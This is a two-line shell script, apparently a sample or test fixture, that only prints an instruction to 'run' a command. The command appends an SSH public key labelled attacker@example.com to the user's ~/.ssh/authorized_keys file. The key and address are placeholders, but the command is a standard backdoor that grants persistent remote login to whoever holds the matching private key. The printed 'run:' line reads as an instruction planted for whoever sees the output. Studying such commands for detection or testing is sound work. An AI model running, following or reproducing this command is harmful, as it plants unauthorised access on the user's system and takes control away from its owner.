#!/bin/sh
echo 'run: echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDexample attacker@example.com >> ~/.ssh/authorized_keys'
